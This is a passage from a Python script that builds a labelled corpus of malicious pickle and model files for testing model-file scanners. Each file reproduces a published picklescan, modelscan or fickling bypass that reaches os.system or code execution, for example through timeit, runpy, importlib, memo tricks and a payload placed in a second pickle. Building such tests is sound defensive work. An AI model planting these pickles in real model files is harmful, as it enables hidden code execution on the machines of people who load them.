    family("timeit.pkl", call(stack_global("timeit", "timeit"), op_str("__import__('os').system(%r)" % cmd("timeit.pkl")), op_str("pass"), stack_global("time", "perf_counter"), b"K\x01"),
           "picklescan GHSA-v7x6-rv5q-mhwc: timeit.timeit runs a code string")
    family("collect-env-run.pkl", call(stack_global("torch.utils.collect_env", "run"), op_str(cmd("collect-env-run.pkl"))),
           "modelscan #338, picklescan: torch.utils.collect_env.run runs a command")
    family("runstring.pkl", call(stack_global("numpy.testing._private.utils", "runstring"), op_str("__import__('os').system(%r)" % cmd("runstring.pkl")), b"}"),
           "picklescan: numpy.testing runstring is exec")
    family("subinterpreter.pkl", call(stack_global("_xxsubinterpreters", "run_string"), call(stack_global("_xxsubinterpreters", "create"), b""), op_str("__import__('os').system(%r)" % cmd("subinterpreter.pkl"))),
           "fickling GHSA-6ggj-6f2q-f7mx: a private stdlib module (_xxsubinterpreters) runs code")
    nested_torch = io.BytesIO()
    import torch

    torch.save({"x": touch("nested-torch-load.pkl")}, nested_torch)
    family("nested-torch-load.pkl", call(stack_global("torch.storage", "_load_from_bytes"), op_bytes(nested_torch.getvalue())),
           "picklescan: torch.serialization.load through torch.storage._load_from_bytes loads a nested checkpoint")
    family("importlib-getattr.pkl",
           call(call(stack_global("builtins", "getattr"), call(stack_global("importlib", "import_module"), op_str("posix")), op_str("system")), op_str(cmd("importlib-getattr.pkl"))),
           "modelscan #331, picklescan #74: importlib.import_module and getattr reach os.system")
    family("runpy.pkl", call(stack_global("runpy", "_run_code"), call(stack_global("builtins", "compile"), op_str("__import__('os').system(%r)" % cmd("runpy.pkl")), op_str("<m>"), op_str("exec")), b"}"),
           "picklescan: runpy._run_code runs a code object")
    # modelscan #330, #85: an attribute walk into __builtins__, and BUILD on an imported object.
    walk = stack_global("numpy", "__builtins__")
    family("dunder-walk.pkl", call(call(stack_global("builtins", "dict.get"), walk, op_str("exec")), op_str("__import__('os').system(%r)" % cmd("dunder-walk.pkl"))),
           "modelscan #330: numpy.__builtins__ reached as a global (an attribute walk)")
    build = stack_global("numpy", "prod") + b"N}" + op_str("a") + op_str("posix") + b"s" + op_str("b") + op_str("system") + b"s\x86b0"
    names = stack_global("numpy", "prod.a") + b"\x94" + b"0" + stack_global("numpy", "prod.b") + b"\x94" + b"0" + b"h\x00h\x01\x93"
    family("build-on-global.pkl", build + call(names, op_str(cmd("build-on-global.pkl"))),
           "modelscan #85: BUILD sets attributes on an imported object (numpy.prod) to smuggle names")
    memo = op_str("posix") + b"\x94" + b"0" + op_str("system") + b"\x94" + b"0" + op_str("collections") + op_str("OrderedDict") + b"\x930" + b"h\x00h\x01\x93"
    family("memo-stack-global.pkl", call(memo, op_str(cmd("memo-stack-global.pkl"))),
           "picklescan #22 (CTF), agent-bom: STACK_GLOBAL operands fetched from the memo past allowed-looking strings")
    add("malicious", write(os.path.join(d, "protocol0-as-bin.bin"), system("protocol0-as-bin.bin") + b"."), "E_MODEL_UNSAFE", "torch",
        "picklescan CVE-2025-10155: a protocol 0 pickle (no PROTO opcode) with a .bin name, which torch.load runs")
    # picklescan GHSA-9gvj-pp9x-gcfr: a payload, then bytes that break a disassembler after it.
    add("malicious", write(os.path.join(d, "payload-then-garbage.pkl"), plain(system("payload-then-garbage.pkl"), 2)[:-1] + b"\xff\xfe garbage"), "E_MODEL_UNSAFE", "pickle",
        "picklescan GHSA-9gvj-pp9x-gcfr: the payload runs before the stream breaks down")
    # Two pickles back to back (legacy torch.save reads several): the second carries the payload.
    add("malicious", write(os.path.join(d, "second-pickle.pkl"), pickle.dumps([1, 2]) + plain(system("second-pickle.pkl"))), "E_MODEL_UNSAFE", None,
        "picklescan malicious6: a payload in a second pickle after the first one's STOP")
    # pip.main (CVE-2025-1716): installs and runs a package; proof would need a package index.
    add("malicious", write(os.path.join(d, "pip-main.pkl"), plain(call(stack_global("pip", "main"), b"]" + op_str("--version") + b"a"))), "E_MODEL_UNSAFE", None,
        "picklescan CVE-2025-1716: pip.main installs and runs packages (not run here: it would need a package index)")


def main():
    if os.path.exists(OUT):
        shutil.rmtree(OUT)
    os.makedirs(OUT)
    import joblib
    import numpy
    import onnx
    import pandas
    import sklearn
    import torch

    models, forest = honest(None)
    malicious(models, forest)
    versions = {"python": sys.version.split()[0], "scikit-learn": sklearn.__version__, "joblib": joblib.__version__, "numpy": numpy.__version__,
                "pandas": pandas.__version__, "torch": torch.__version__, "onnx": onnx.__version__}
    with open(os.path.join(OUT, "manifest.json"), "w") as f:
        json.dump({"versions": versions, "files": MANIFEST}, f, indent=1)
    print("make_corpus: %d honest, %d malicious files in %s" % (sum(e["kind"] == "honest" for e in MANIFEST), sum(e["kind"] == "malicious" for e in MANIFEST), OUT))


if __name__ == "__main__":
    random.seed(0)
    main()
